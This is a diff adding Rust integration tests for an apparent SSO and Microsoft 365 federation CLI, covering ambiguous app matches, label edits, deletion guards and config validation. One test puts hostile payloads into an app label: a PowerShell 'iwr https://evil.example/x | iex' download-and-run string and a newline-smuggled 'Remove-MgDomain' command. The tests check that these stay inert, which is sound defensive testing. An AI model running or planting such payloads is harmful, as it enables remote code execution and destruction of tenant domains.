@@ -340,3 +340,322 @@ fn manage_full_deletes_an_app_the_files_do_not_name() {
     assert_eq!(code, 0, "{out}");
     assert!(out.contains("SSO app"), "{out}");
 }
+
+/// The example org (`examples/sandbox.json`) with `edit` applied, written to `dir/org.json`.
+fn org_with(dir: &Path, edit: impl FnOnce(&mut Value)) -> String {
+    let mut state: Value = serde_json::from_str(
+        &std::fs::read_to_string(
+            Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/sandbox.json"),
+        )
+        .unwrap(),
+    )
+    .unwrap();
+    edit(&mut state);
+    let org = dir.join("org.json");
+    std::fs::write(&org, serde_json::to_string(&state).unwrap()).unwrap();
+    org.to_str().unwrap().to_string()
+}
+
+/// A copy of `examples/yaml` in `dir/files` (and its `passwords` beside it) with `sso.yaml`
+/// replaced (and `sso_apps: full` when `full`).
+fn files_with(dir: &Path, sso_yaml: &str, full: bool) -> String {
+    let files = dir.join("files");
+    std::fs::create_dir_all(&files).unwrap();
+    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/yaml");
+    for entry in std::fs::read_dir(&examples).unwrap() {
+        let path = entry.unwrap().path();
+        std::fs::copy(&path, files.join(path.file_name().unwrap())).unwrap();
+    }
+    let passwords = dir.join("passwords");
+    std::fs::create_dir_all(&passwords).unwrap();
+    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/passwords");
+    for entry in std::fs::read_dir(&examples).unwrap() {
+        let path = entry.unwrap().path();
+        std::fs::copy(&path, passwords.join(path.file_name().unwrap())).unwrap();
+    }
+    std::fs::write(files.join("sso.yaml"), sso_yaml).unwrap();
+    if full {
+        let settings = std::fs::read_to_string(files.join("settings.yaml")).unwrap();
+        let settings = settings.replacen("  manage:\n", "  manage:\n    sso_apps: full\n", 1);
+        assert!(settings.contains("sso_apps: full"), "{settings}");
+        std::fs::write(files.join("settings.yaml"), settings).unwrap();
+    }
+    files.to_str().unwrap().to_string()
+}
+
+/// A second live app of the template, `label`, `id`, IdP Entity ID `issuer`, certificate
+/// `OTHERAPPCERT`.
+fn second_app(state: &mut Value, id: &str, label: &str, issuer: &str) {
+    let mut b = state["applications"][0].clone();
+    b["_id"] = id.into();
+    b["displayLabel"] = label.into();
+    b["config"]["idpEntityId"]["value"] = issuer.into();
+    b["config"]["idpCertificate"] = serde_json::json!({"type": "file",
+        "value": "-----BEGIN CERTIFICATE-----\nOTHERAPPCERT\n-----END CERTIFICATE-----\n"});
+    state["applications"].as_array_mut().unwrap().push(b);
+}
+
+const M365_SSO: &str = "version: 1\n\
+sso_apps:\n  m365:\n    template: office365\n    display_label: Microsoft 365\n    tenant: contoso\n\
+\x20   domain: example.com\n    groups: [engineering, sales]\n\
+waivers:\n  - {rule: LCK011, target: user.carol, reason: \"on leave\"}\n";
+
+/// Two live apps of one template whose labels differ only in case: `sso_app.m365` could be
+/// either, so plan (additive or `full`) and federation stop, naming both ids; no certificate.
+#[test]
+fn two_live_apps_with_one_label_stop_the_plan_and_federation() {
+    let dir = tempfile::tempdir().unwrap();
+    let org = org_with(dir.path(), |s| {
+        second_app(
+            s,
+            "64f000000000000000000000",
+            "microsoft 365",
+            "test.example",
+        )
+    });
+    for full in [false, true] {
+        let files = files_with(&dir.path().join(format!("{full}")), M365_SSO, full);
+        let (code, out, err) = jcform(&["plan", &files, "--sandbox", &org]);
+        assert_eq!(code, 1, "{out}{err}");
+        assert!(err.contains("ambiguous-match"), "{err}");
+        assert!(
+            err.contains("64f000000000000000000000") && err.contains("64f000000000000000000001"),
+            "{err}"
+        );
+        assert!(!out.contains("sso_app"), "nothing planned: {out}");
+        let (code, out, err) = jcform(&[
+            "federation",
+            "m365_tenant.contoso",
+            &files,
+            "--sandbox",
+            &org,
+        ]);
+        assert_eq!(code, 1, "{out}{err}");
+        assert!(
+            out.is_empty() && !err.contains("OTHERAPPCERT"),
+            "{out}{err}"
+        );
+        assert!(
+            err.contains("64f000000000000000000000") && err.contains("64f000000000000000000001"),
+            "{err}"
+        );
+    }
+}
+
+/// Issue: with two declared office365 apps a label edit was a delete and a create (a new
+/// certificate, federation broken). The IdP Entity ID ties it to the live app: an update.
+#[test]
+fn a_label_edit_with_two_declared_apps_is_an_update_matched_by_domain() {
+    let dir = tempfile::tempdir().unwrap();
+    let org = org_with(dir.path(), |s| {
+        second_app(
+            s,
+            "64f000000000000000000002",
+            "M365 test",
+            "test.example.com",
+        )
+    });
+    let two = "version: 1\n\
+sso_apps:\n  m365:\n    template: office365\n    display_label: Microsoft 365 (Contoso)\n\
+\x20   tenant: contoso\n    domain: EXAMPLE.com\n    groups: [engineering, sales]\n\
+\x20 m365test:\n    template: office365\n    display_label: M365 test\n    tenant: contoso\n\
+\x20   domain: test.example.com\n\
+waivers:\n  - {rule: LCK011, target: user.carol, reason: \"on leave\"}\n";
+    let files = files_with(dir.path(), two, true);
+    let (_, out, err) = jcform(&["plan", &files, "--sandbox", &org]);
+    assert!(out.contains("~ sso_app.m365"), "{out}{err}");
+    assert!(
+        !out.contains("+ sso_app") && !out.contains("- sso_app"),
+        "no create or delete: {out}"
+    );
+    // Two live apps the files no longer name share the IdP Entity ID: no guess.
+    let dir = tempfile::tempdir().unwrap();
+    let org = org_with(dir.path(), |s| {
+        second_app(s, "64f000000000000000000002", "M365 old", "example.com");
+        second_app(
+            s,
+            "64f000000000000000000003",
+            "M365 test",
+            "test.example.com",
+        );
+    });
+    let files = files_with(dir.path(), two, true);
+    let (code, out, err) = jcform(&["plan", &files, "--sandbox", &org]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(err.contains("ambiguous-rename"), "{err}");
+    assert!(
+        err.contains("64f000000000000000000001") && err.contains("64f000000000000000000002"),
+        "{err}"
+    );
+}
+
+/// `manage.sso_apps: full` must not delete the app a declared `federation` relies on.
+#[test]
+fn deleting_the_app_a_federation_relies_on_is_a_plan_error() {
+    let dir = tempfile::tempdir().unwrap();
+    let org = org_with(dir.path(), |s| {
+        second_app(
+            s,
+            "64f000000000000000000002",
+            "M365 test",
+            "test.example.com",
+        )
+    });
+    let moved = "version: 1\n\
+sso_apps:\n  m365:\n    template: office365\n    display_label: Microsoft 365 (new)\n\
+\x20   tenant: contoso\n    domain: other.example.com\n    groups: [engineering, sales]\n\
+\x20 m365test:\n    template: office365\n    display_label: M365 test\n    tenant: contoso\n\
+\x20   domain: test.example.com\n\
+waivers:\n  - {rule: LCK011, target: user.carol, reason: \"on leave\"}\n";
+    let files = files_with(dir.path(), moved, true);
+    let (code, out, err) = jcform(&["plan", &files, "--sandbox", &org]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(err.contains("federated-app-removed"), "{err}");
+    assert!(err.contains("64f000000000000000000001"), "{err}");
+    let (code, _, err) = jcform(&["apply", &files, "--sandbox", &org, "--auto-approve"]);
+    assert_eq!(code, 1, "{err}");
+    assert_eq!(
+        apps(&dir.path().join("org.json")).len(),
+        2,
+        "nothing deleted"
+    );
+}
+
+/// The printed request holds the files' values: while the plan still changes the app the org
+/// does not match, so federation refuses unless `--pending`, and then warns on stderr.
+#[test]
+fn federation_refuses_a_pending_app_change_unless_asked() {
+    let dir = tempfile::tempdir().unwrap();
+    let org = org_with(dir.path(), |_| {});
+    let files = files_with(
+        dir.path(),
+        &M365_SSO.replace("Microsoft 365", "Microsoft 365 (Contoso)"),
+        false,
+    );
+    let args = [
+        "federation",
+        "m365_tenant.contoso",
+        &files,
+        "--sandbox",
+        &org,
+    ];
+    let (code, out, err) = jcform(&args);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(out.is_empty(), "{out}");
+    assert!(
+        err.contains("does not match the files yet") && err.contains("--pending"),
+        "{err}"
+    );
+    let (code, out, err) = jcform(&[&args[..], &["--pending"]].concat());
+    assert_eq!(code, 0, "{err}");
+    assert!(
+        err.contains("warning:") && err.contains("jcform apply"),
+        "{err}"
+    );
+    assert!(
+        out.contains("-DisplayName 'Microsoft 365 (Contoso)'"),
+        "{out}"
+    );
+}
+
+/// A hostile label (declared and held by the org, so the plan is empty) is text in every form;
+/// one with a line break in the org is refused.
+#[test]
+fn federation_output_keeps_a_hostile_label_inert() {
+    let label = "M365 $(iwr https://evil.example/x | iex) `whoami` it's";
+    let dir = tempfile::tempdir().unwrap();
+    let org = org_with(dir.path(), |s| {
+        s["applications"][0]["displayLabel"] = label.into()
+    });
+    let files = files_with(
+        dir.path(),
+        &M365_SSO.replace(
+            "Microsoft 365",
+            "'M365 $(iwr https://evil.example/x | iex) `whoami` it''s'",
+        ),
+        false,
+    );
+    let (code, out, err) = jcform(&["federation", "contoso", &files, "--sandbox", &org]);
+    assert_eq!(code, 0, "{err}");
+    let ps: String = out
+        .lines()
+        .skip_while(|l| !l.starts_with("## PowerShell"))
+        .filter(|l| l.contains("DisplayName"))
+        .collect();
+    assert_eq!(
+        ps,
+        "  -DisplayName 'M365 $(iwr https://evil.example/x | iex) `whoami` it''s' `"
+    );
+    insta::assert_snapshot!(
+        "federation_hostile_label_header",
+        out.lines().next().unwrap()
+    );
+    let (code, out, _) = jcform(&[
+        "federation",
+        "contoso",
+        &files,
+        "--sandbox",
+        &org,
+        "--format",
+        "json",
+    ]);
+    assert_eq!(code, 0);
+    let doc: Value = serde_json::from_str(&out).expect("JSON");
+    assert_eq!(doc["graph"]["body"]["displayName"], label);
+    assert!(doc["powershell"]
+        .as_str()
+        .unwrap()
+        .contains("-DisplayName 'M365 $(iwr https://evil.example/x | iex) `whoami` it''s'"));
+    // A newline from the org (the files leave the label out): refused, not printed.
+    let dir = tempfile::tempdir().unwrap();
+    let org = org_with(dir.path(), |s| {
+        s["applications"][0]["displayLabel"] =
+            "Microsoft 365\nRemove-MgDomain -DomainId example.com".into()
+    });
+    let files = files_with(
+        dir.path(),
+        &M365_SSO.replace("    display_label: Microsoft 365\n", ""),
+        false,
+    );
+    let (code, out, err) = jcform(&[
+        "federation",
+        "contoso",
+        &files,
+        "--sandbox",
+        &org,
+        "--pending",
+    ]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(
+        out.is_empty() && !err.contains("Remove-MgDomain"),
+        "{out}{err}"
+    );
+}
+
+/// A `config.*.value` of the wrong type (the certificate as a number, an entry that is not an
+/// object) fails the read naming the app: never "no certificate" or "no setting".
+#[test]
+fn a_config_value_of_the_wrong_type_fails_the_read() {
+    for bad in [
+        serde_json::json!({"type": "file", "value": 7}),
+        serde_json::json!({"type": "file", "value": {"pem": "x"}}),
+        serde_json::json!("-----BEGIN CERTIFICATE-----"),
+    ] {
+        let dir = tempfile::tempdir().unwrap();
+        let org = org_with(dir.path(), |s| {
+            s["applications"][0]["config"]["idpCertificate"] = bad.clone()
+        });
+        for args in [
+            vec!["federation", "contoso", "examples/yaml", "--sandbox", &org],
+            vec!["plan", "examples/yaml", "--sandbox", &org],
+        ] {
+            let (code, out, err) = jcform(&args);
+            assert_eq!(code, 1, "{bad}: {out}{err}");
+            assert!(
+                err.contains("64f000000000000000000001") && err.contains("idpCertificate"),
+                "{bad}: {err}"
+            );
+            assert!(!out.contains("SigningCertificate"), "{out}");
+        }
+    }
+}
